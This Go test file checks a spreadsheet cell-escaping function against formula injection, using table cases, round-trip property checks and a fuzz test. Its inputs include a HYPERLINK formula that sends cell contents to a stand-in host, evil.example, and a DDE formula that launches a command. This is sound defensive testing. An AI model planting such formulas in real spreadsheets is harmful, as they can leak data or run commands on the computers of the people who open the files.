package sheet_test

import (
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"

	"github.com/ferry-migrate/ferry/internal/sheet"
)

func TestEscapeCellFollowsTheRule(t *testing.T) {
	cases := []struct {
		in, want, why string
	}{
		// Plain text is left alone.
		{"", "", "empty"},
		{"hello", "hello", "text"},
		{"00123", "00123", "leading zeros"},
		{"1e5", "1e5", "looks like a number, starts with a digit"},
		{"2026-01-02", "2026-01-02", "looks like a date"},
		{" =1+1", " =1+1", "a leading space makes it text"},
		{"a=b", "a=b", "a trigger after the first character"},
		{"−12", "−12", "U+2212 MINUS SIGN is not a trigger"},

		// Formula triggers are escaped.
		{"=1+1", "'=1+1", "equals"},
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "exfiltration"},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "DDE"},
		{"+SUM(A1:A2)", "'+SUM(A1:A2)", "plus and a function"},
		{"-SUM(A1:A2)", "'-SUM(A1:A2)", "minus and a function"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)", "at"},
		{"@handle", "'@handle", "at, even for a handle"},
		{"\t=1+1", "'\t=1+1", "tab"},
		{"\r=1+1", "'\r=1+1", "carriage return"},
		{"＝1+1", "'＝1+1", "full-width equals"},
		{"＋1", "'＋1", "full-width plus, even before a digit"},
		{"－12", "'－12", "full-width minus, even before a digit"},
		{"＠SUM(A1)", "'＠SUM(A1)", "full-width at"},
		{"=", "'=", "a lone trigger"},
		{"-", "'-", "a lone minus"},
		{"+", "'+", "a lone plus"},
		{"- 12", "'- 12", "a sign not followed by a digit"},
		{"-.5", "'-.5", "a sign not followed by a digit"},

		// Phone numbers and negative numbers are plainly safe data.
		{"+4930123456", "+4930123456", "E.164"},
		{"+1 (555) 123-4567", "+1 (555) 123-4567", "North American notation"},
		{"+44 20 7946.0958", "+44 20 7946.0958", "dots and spaces"},
		{"-12", "-12", "negative integer"},
		{"-3.5", "-3.5", "negative decimal"},
		{"-1,234.50", "-1,234.50", "thousands separator"},
		{"-3,5", "-3,5", "decimal comma"},
		{"+1-2", "+1-2", "arithmetic on constants at worst"},
		{"+49 30 123456 ext 7", "'+49 30 123456 ext 7", "a letter makes it unsafe"},
		{"+1E5", "'+1E5", "a letter, even an exponent"},
		{"-1+A1", "'-1+A1", "a cell reference"},
		{"+1|2", "'+1|2", "a pipe"},
		{"-1!A1", "'-1!A1", "a bang"},
		{"+1\t2", "'+1\t2", "a tab"},
		{"+1/2", "'+1/2", "a slash is not in the safe set"},

		// A value that could pass for an escaped one is escaped as well.
		{"'=1+1", "''=1+1", "already looks escaped"},
		{"''=1", "'''=1", "two apostrophes"},
		{"'hello", "'hello", "an apostrophe before text"},
		{"'", "'", "a lone apostrophe"},
		{"'-12", "'-12", "an apostrophe before a negative number"},
		{"'+4930123456", "'+4930123456", "an apostrophe before a phone number"},
	}
	for _, c := range cases {
		if got := sheet.EscapeCell(c.in); got != c.want {
			t.Errorf("EscapeCell(%q) = %q, want %q (%s)", c.in, got, c.want, c.why)
		}
		if got := sheet.UnescapeCell(c.want); got != c.in {
			t.Errorf("UnescapeCell(%q) = %q, want %q (%s)", c.want, got, c.in, c.why)
		}
	}
}

func TestUnescapeCellUndoesEscapeCellForEveryString(t *testing.T) {
	roundTrip := func(v string) bool { return sheet.UnescapeCell(sheet.EscapeCell(v)) == v }

	// Arbitrary strings, invalid UTF-8 included.
	if err := quick.Check(roundTrip, &quick.Config{MaxCount: 20_000}); err != nil {
		t.Error(err)
	}
	// Strings built from the characters that matter, which random strings
	// hardly ever hit.
	pieces := []string{"'", "=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "0", "9", " ", ".", ",", "(", ")", "a", "|", "!", "\xff"}
	gen := func(values []reflect.Value, r *rand.Rand) {
		var b strings.Builder
		for range r.Intn(7) {
			b.WriteString(pieces[r.Intn(len(pieces))])
		}
		values[0] = reflect.ValueOf(b.String())
	}
	if err := quick.Check(roundTrip, &quick.Config{MaxCount: 50_000, Values: gen}); err != nil {
		t.Error(err)
	}
}

func TestEscapedCellsNeverStartAFormula(t *testing.T) {
	pieces := []string{"'", "=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "0", "9", " ", ".", "(", ")", "A", "|"}
	r := rand.New(rand.NewSource(7))
	for range 50_000 {
		var b strings.Builder
		for range 1 + r.Intn(6) {
			b.WriteString(pieces[r.Intn(len(pieces))])
		}
		v := b.String()
		e := sheet.EscapeCell(v)
		// What survives unescaped with a trigger up front has no letter, no
		// pipe and no bang: a number or a phone number.
		if strings.ContainsAny(e[:1], "=+-@\t\r") || strings.HasPrefix(e, "＝") || strings.HasPrefix(e, "＋") || strings.HasPrefix(e, "－") || strings.HasPrefix(e, "＠") {
			if len(e) < 2 || strings.ContainsAny(e, "A|!\t\r=@'＝＋－＠") || !strings.ContainsAny(e[1:2], "0123456789") {
				t.Fatalf("EscapeCell(%q) = %q, which a spreadsheet could run", v, e)
			}
		}
	}
}

func FuzzEscapeCellRoundTrip(f *testing.F) {
	for _, s := range []string{"", "=1", "'=1", "''=1", "+4930123456", "-12", "'-12", "＝", "'＠x", "\t", "'\r"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if got := sheet.UnescapeCell(sheet.EscapeCell(v)); got != v {
			t.Fatalf("UnescapeCell(EscapeCell(%q)) = %q", v, got)
		}
	})
}
